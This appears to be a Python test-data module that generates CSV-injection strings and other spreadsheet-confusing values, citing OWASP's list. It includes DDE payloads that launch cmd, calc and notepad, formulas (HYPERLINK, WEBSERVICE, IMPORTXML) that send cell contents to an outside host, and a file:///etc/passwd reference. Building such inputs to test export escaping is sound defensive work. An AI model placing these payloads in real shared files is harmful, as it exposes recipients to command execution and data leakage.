"""Words that spreadsheet programs take for something else: formulas, numbers, dates, marks of their own."""

from __future__ import annotations

import itertools

# What people's programs have taken for a formula, after OWASP's list of CSV injections and what became of DDE.
BODIES = (
    "1+1", "SUM(A1:A9)", 'HYPERLINK("http://example.org/?x="&A1,"ver")', 'WEBSERVICE("http://example.org/")',
    "cmd|' /C calc'!A0", 'IMPORTXML("http://example.org/","//a")', "2+5+cmd|'/c notepad'!_xlbgnm.A1",
    'DDE("cmd";"/C calc";"x")', "A1", "[1]Hoja!A1", "'file:///etc/passwd'#$Hoja.A1", "{1;2}", "TRUE()",
    'INDIRECT("A1")', "R1C1", "EMBED()",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", " =", "\t=", "\n=", "\r=", "'=", '"=', "＝", "=-", ";=")
OTHERS = (
    "#REF!", "#N/A", "#NAME?", "TRUE", "FALSO", "1e5", "0x10", "1/2", "03-04-2023", "2023-03-01", "12:30", "50 %", "€5",
    "00796", "1.000,50", "1,000.50", "-0", "NaN", "Infinity", "null", "None", "{=1+1}", "_x0041_", "_x000D_",
    "&lt;f&gt;1&lt;/f&gt;", "<f>1+1</f>", "]]>", "</t></is></c><c><f>1</f></c>", "ñandú «é» 日本 🍌", "a\u200bb",
    "\u202eabc", "x" * 180,
)  # fmt: skip
FORMULAS = tuple(start + body for start, body in itertools.product(STARTS, BODIES))
PAYLOADS = FORMULAS[: 200 - len(OTHERS)] + OTHERS
